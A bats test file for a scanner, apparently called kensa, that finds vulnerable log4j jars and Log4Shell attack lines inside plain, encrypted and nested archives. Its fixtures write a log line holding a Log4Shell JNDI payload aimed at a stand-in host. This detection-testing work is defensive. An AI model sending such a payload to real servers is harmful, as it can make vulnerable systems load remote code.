#!/usr/bin/env bats
# archives.bats - 7z and RAR are opened, and encrypted archives are opened
# with candidate passwords (--password, --passwords FILE) or reported
# (docs/DESIGN.md, "Encrypted archives").  Fixtures are made here: 7z
# and zip's AES with p7zip (scripts/install-deps.sh), ZipCrypto with zip,
# RAR 4 with tests/gen/mkrar.py (no free tool writes RAR).  Inside: a
# vulnerable log4j-core jar and a log with a Log4Shell line.

bats_require_minimum_version 1.5.0
load helpers

setup_file() {
    make_fixtures
    export A="$BATS_FILE_TMPDIR/arc"
    mkdir -p "$A/in"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$A/in/"
    printf '10.0.0.1 - - GET /?q=${jndi:ldap://x.example/a} HTTP/1.1\n' \
        >"$A/in/access.log"
    printf 'nothing here\n' >"$A/in/readme.txt"
    (
        cd "$A/in" || exit 1
        zip -q -P 'pass word' ../zipcrypto.zip log4j-core-2.14.1.jar access.log
        zip -q -P 'pass word' ../classes.jar readme.txt
        zip -q ../plainpart.zip access.log
        zip -q -P 'pass word' ../plainpart.zip readme.txt
        python3 "$KENSA_TOP/tests/gen/mkrar.py" ../plain.rar \
            log4j-core-2.14.1.jar=log4j-core-2.14.1.jar access.log=access.log
        python3 "$KENSA_TOP/tests/gen/mkrar.py" ../enc.rar \
            access.log=access.log --encrypted-flag
        if command -v 7z >/dev/null; then
            7z a -bd ../plain.7z log4j-core-2.14.1.jar access.log >/dev/null
            7z a -bd -p'pass word' ../aes.7z log4j-core-2.14.1.jar >/dev/null
            7z a -bd -p'pass word' -mhe=on ../aeshdr.7z access.log >/dev/null
            7z a -bd -tzip -mem=AES256 -p'pass word' ../aes.zip \
                log4j-core-2.14.1.jar access.log >/dev/null
        fi
    )
    # the password among many wrong ones, CRLF line ends
    python3 -c '
import sys
for i in range(3000):
    sys.stdout.write("wrong%d\r\n" % i)
sys.stdout.write("\r\npass word\r\n")' >"$A/passwords.txt"
    printf 'not it\n' >"$A/wrong.txt"
}

need_7z() {
    command -v 7z >/dev/null || skip "p7zip-full is not installed (scripts/install-deps.sh)"
}

# finds FILE ARGS...: kensa scan --json finds the jar and the attack line
finds_both() {
    run --separate-stderr k scan --json "$@"
    [ "$status" -eq 1 ]
    echo "$output" | jq_any 'select(.event.kind!="event") | .package.version == "2.14.1"'
    echo "$output" | jq_any 'select(.event.kind!="event") | (.kensa.path | test("access.log"))'
}

@test "a plain 7z: its jar and its log are scanned" {
    need_7z
    finds_both "$A/plain.7z"
}

@test "a RAR (4, stored): its jar and its log are scanned" {
    # ../shared/corpus holds no RAR; tests/gen/mkrar.py writes one
    finds_both "$A/plain.rar"
}

@test "RAR encryption: the member is reported encrypted, not scanned" {
    run --separate-stderr k scan "$A/enc.rar"
    [ "$status" -eq 0 ]
    [[ $stderr == *"enc.rar: encrypted members: 1 (first: access.log) not scanned: RAR encryption"* ]]
    [[ $output != *jndi* ]]
}

@test "7z AES: reported encrypted and not opened, with or without a password" {
    need_7z
    # libarchive (3.6, 3.7) reads 7z AES names, not data: kensa says so
    run --separate-stderr k scan "$A/aes.7z"
    [ "$status" -eq 0 ]
    [[ $stderr == *"aes.7z: encrypted members: 1 (first: log4j-core-2.14.1.jar) not scanned: 7z AES"* ]]
    run --separate-stderr k scan --password 'pass word' "$A/aes.7z"
    [ "$status" -eq 0 ]
    [[ $stderr == *"aes.7z: encrypted"*"cannot decrypt"* ]]
}

@test "7z with its member list encrypted (-mhe=on): reported encrypted" {
    need_7z
    run --separate-stderr k scan --password 'pass word' "$A/aeshdr.7z"
    [ "$status" -eq 0 ]
    [[ $stderr == *"aeshdr.7z: encrypted 7z (its member list too)"* ]]
}

@test "ZipCrypto zip: opened with a password from --passwords (CRLF, 3001 lines)" {
    finds_both --passwords "$A/passwords.txt" "$A/zipcrypto.zip"
    [[ $stderr != *encrypted* ]]
}

@test "ZipCrypto zip: opened with --password" {
    finds_both --password nope --password 'pass word' "$A/zipcrypto.zip"
}

@test "ZipCrypto zip: the wrong password gives a warning naming it, no finding" {
    run --separate-stderr k scan --passwords "$A/wrong.txt" "$A/zipcrypto.zip"
    [ "$status" -eq 0 ]
    [[ $stderr == *"zipcrypto.zip: encrypted members: 2 (first: log4j-core-2.14.1.jar) not scanned: the one candidate password did not open it"* ]]
    [ -z "$output" ]
}

@test "ZipCrypto zip without a password: warning, and a JSON event for it" {
    run --separate-stderr k scan "$A/zipcrypto.zip"
    [ "$status" -eq 0 ]
    [[ $stderr == *"zipcrypto.zip: encrypted members: 2"*"no password given"* ]]
    run --separate-stderr k scan --json "$A/zipcrypto.zip"
    echo "$output" | jq_any 'select(.event.kind=="event") | (.error.message | test("encrypted"))'
}

@test "an encrypted jar of classes only is not passed over in silence" {
    run --separate-stderr k scan "$A/classes.jar"
    [[ $stderr == *"classes.jar: encrypted members: 1 (first: readme.txt)"* ]]
}

@test "a zip with plain and encrypted members: the plain ones are scanned, the others reported" {
    run --separate-stderr k scan "$A/plainpart.zip"
    [ "$status" -eq 1 ]
    [[ $output == *access.log* ]]
    [[ $stderr == *"plainpart.zip: encrypted members: 1 (first: readme.txt) not scanned: no password given"* ]]
}

@test "WinZip AES-256 zip: opened with --password" {
    need_7z
    finds_both --password 'pass word' "$A/aes.zip"
    run --separate-stderr k scan "$A/aes.zip"
    [ "$status" -eq 0 ]
    [[ $stderr == *"aes.zip: encrypted"*"no password given"* ]]
}

@test "an encrypted zip inside a 7z inside a tar is opened with the password" {
    need_7z
    mkdir -p "$BATS_TEST_TMPDIR/n"
    cp "$A/zipcrypto.zip" "$BATS_TEST_TMPDIR/n/"
    (cd "$BATS_TEST_TMPDIR/n" && 7z a -bd inner.7z zipcrypto.zip >/dev/null &&
     tar -cf outer.tar inner.7z)
    finds_both --password 'pass word' "$BATS_TEST_TMPDIR/n/outer.tar"
}

@test "--passwords: a file over 10,000 lines or 1 MiB, or not UTF-8, is refused" {
    seq 1 10001 >"$BATS_TEST_TMPDIR/many"
    run --separate-stderr k scan --passwords "$BATS_TEST_TMPDIR/many" "$A/plain.rar"
    [ "$status" -eq 2 ]
    [[ $stderr == *"cannot read passwords from"*"more than 10000 lines"* ]]
    head -c 1048577 /dev/zero | tr '\0' a >"$BATS_TEST_TMPDIR/big"
    run --separate-stderr k scan --passwords "$BATS_TEST_TMPDIR/big" "$A/plain.rar"
    [ "$status" -eq 2 ]
    [[ $stderr == *"larger than 1048576 bytes"* ]]
    printf 'ok\n\377\376\n' >"$BATS_TEST_TMPDIR/latin"
    run --separate-stderr k scan --passwords "$BATS_TEST_TMPDIR/latin" "$A/plain.rar"
    [ "$status" -eq 2 ]
    [[ $stderr == *"line 2 is not UTF-8"* ]]
    run --separate-stderr k scan --passwords "$BATS_TEST_TMPDIR/none" "$A/plain.rar"
    [ "$status" -eq 2 ]
}

@test "an empty gzip (Debian ships empty man pages) is no warning; empty members before a log are still read" {
    local d="$BATS_TEST_TMPDIR/gz"
    mkdir -p "$d"
    printf '' | gzip >"$d/empty.1.gz"
    { printf '' | gzip; printf '' | gzip
      printf '10.0.0.1 - - GET /?q=${jndi:ldap://x.example/a} HTTP/1.1\n' | gzip
    } >"$d/access.log.gz"
    run --separate-stderr "$KENSA" scan --no-summary "$d/empty.1.gz"
    echo "$status $output $stderr"
    [ "$status" -eq 0 ]
    [ -z "$stderr" ]
    # a gzip that is cut is still a warning, not silently empty
    head -c 12 "$d/access.log.gz" >"$d/cut.gz"
    run --separate-stderr "$KENSA" scan --no-summary "$d/cut.gz"
    [ -n "$stderr" ]
    run --separate-stderr "$KENSA" logs --no-summary "$d/access.log.gz"
    [ "$status" -eq 1 ]
    [[ "$output" == *"x.example"* ]]
}
